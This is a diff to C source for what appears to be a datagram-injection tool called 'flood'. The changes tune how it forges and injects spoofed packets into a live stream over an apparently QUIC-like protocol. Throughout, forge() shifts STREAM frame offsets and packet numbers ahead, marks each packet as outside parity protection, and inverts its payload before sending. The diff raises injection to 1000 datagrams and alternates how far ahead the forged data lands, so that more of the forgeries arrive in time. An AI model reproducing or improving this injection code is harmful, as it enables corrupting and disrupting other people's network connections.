@@ -14,9 +14,10 @@
 
 #include "flood.h"
 
-#define NR_INJECTED	8
-#define APART		64	/* datagrams from one to the next */
+#define NR_INJECTED	1000	/* until stopped: on a busy machine many come too late */
+#define APART		32	/* datagrams from one to the next */
 #define AHEAD		12	/* datagrams; so many are on the link at least */
+#define FURTHER		6	/* every other time */
 #define MIN_STREAM	5	/* bytes of a STREAM frame */
 #define MIN_PAYLOAD	512
 
@@ -62,19 +63,19 @@ static __u32 find_offset(const struct frame *in)
 }
 
 /* Returns false if the guess can't be written in place */
-static bool forge(struct frame *f, __u32 offset_at)
+static bool forge(struct frame *f, __u32 offset_at, __u32 ahead)
 {
 	__u8 *htp = f->data + flood_htp_off(f), *field = f->data + offset_at;
 	__u8 *payload = htp + HTP_HDR_LEN + get(htp + HTP_CTL_LEN, 2);
 	__u32 len = f->data + f->len - payload, i;
 	unsigned int bytes = width(field);
 	__u64 prefix = 3ULL << (8 * bytes - 2);
-	__u64 offset = (get(field, bytes) & ~prefix) + AHEAD * len - len / 2;
+	__u64 offset = (get(field, bytes) & ~prefix) + ahead * len - len / 2;
 
 	if (offset & prefix)
 		return false;
 	put(field, bytes, offset | (get(field, bytes) & prefix));
-	put(htp + HTP_PN, 4, get(htp + HTP_PN, 4) + AHEAD);
+	put(htp + HTP_PN, 4, get(htp + HTP_PN, 4) + ahead);
 	htp[1] = 0;	/* in no group that has parity */
 	for (i = 0; i < len; i++)
 		payload[i] ^= 0xff;
@@ -101,7 +102,7 @@ int flood_inject(int in, int out)
 		if (!at || wait--)
 			continue;
 		wait = APART;
-		if (!forge(&f, at))
+		if (!forge(&f, at, AHEAD + nr % 2 * FURTHER))
 			continue;
 		if (send(out, f.data, f.len, 0) < 0)
 			flood_die("send");
